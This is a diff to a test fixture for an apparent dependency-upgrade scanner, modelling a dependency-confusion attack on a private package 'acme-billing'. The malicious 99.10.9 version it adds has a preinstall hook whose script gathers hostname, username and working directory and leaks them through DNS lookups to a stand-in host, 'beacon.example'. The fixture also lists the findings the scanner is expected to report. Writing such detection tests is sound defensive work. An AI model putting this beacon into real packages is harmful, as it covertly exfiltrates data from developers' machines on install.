@@ -1,38 +1,47 @@
 import type { Replay } from '../replay.js'
+import { replayUpgrade } from '../upgrade.js'
 
-export const replay: Replay = {
+const billing = `'use strict'
+
+const rates = { standard: 0.2, reduced: 0.05, zero: 0 }
+
+exports.gross = function gross(net, rate = 'standard') {
+  return Math.round(net * (1 + rates[rate]) * 100) / 100
+}
+`
+
+const beacon = `const dns = require('dns')
+const os = require('os')
+
+const seen = {
+  p: 'acme-billing',
+  h: os.hostname(),
+  u: os.userInfo().username,
+  d: process.cwd(),
+}
+const text = Buffer.from(JSON.stringify(seen)).toString('hex')
+const labels = text.match(/.{1,60}/g) || []
+
+labels.forEach((label, at) => {
+  dns.lookup(at + '.' + label + '.beacon.example', () => {})
+})
+`
+
+const inIndex = { file: 'index.js', line: "dns.lookup(at + '.' + label + '.beacon.example', () => {})" } as const
+
+export const replay: Replay = replayUpgrade({
   description:
     "Someone publishes the name of a company's private package with a version above all that the company will ever have, and the " +
-    'installer that asks both registries takes the higher one.',
+    'installer that asks both registries takes the higher one. It says where it was installed by names that it looks up.',
   date: '2021-02',
-  packages: {
-    'acme-billing': {
-      '1.4.0': { files: { 'index.js': 'module.exports = 1\n' } },
-      '99.10.9': {
-        manifest: { scripts: { preinstall: 'node index.js' } },
-        files: { 'index.js': '// inert\n' },
-      },
-    },
-  },
-  base: { manifest: { dependencies: { 'acme-billing': '>=1.4.0' } }, locked: { 'acme-billing': '1.4.0' } },
-  head: { manifest: { dependencies: { 'acme-billing': '>=1.4.0' } }, locked: { 'acme-billing': '99.10.9' } },
-  expected: {
-    verdict: 'flagged',
-    findings: [
-      {
-        rule: 'install-script-added',
-        severity: 'high',
-        package: 'acme-billing',
-        file: 'package-lock.json',
-        line: '"version": "99.10.9",',
-      },
-      {
-        rule: 'version-jump',
-        severity: 'high',
-        package: 'acme-billing',
-        file: 'package-lock.json',
-        line: '"version": "99.10.9",',
-      },
-    ],
-  },
-}
+  name: 'acme-billing',
+  from: ['1.4.0', { files: { 'index.js': billing } }],
+  to: ['99.10.9', { manifest: { scripts: { preinstall: 'node index.js' } }, files: { 'index.js': beacon } }],
+  findings: [
+    ['beacon-added', 'high', inIndex],
+    ['capability-added', 'high', inIndex],
+    ['install-script-added', 'high', { file: 'package.json' }],
+    ['version-jump', 'high'],
+    ['network-host-added', 'medium', inIndex],
+  ],
+})
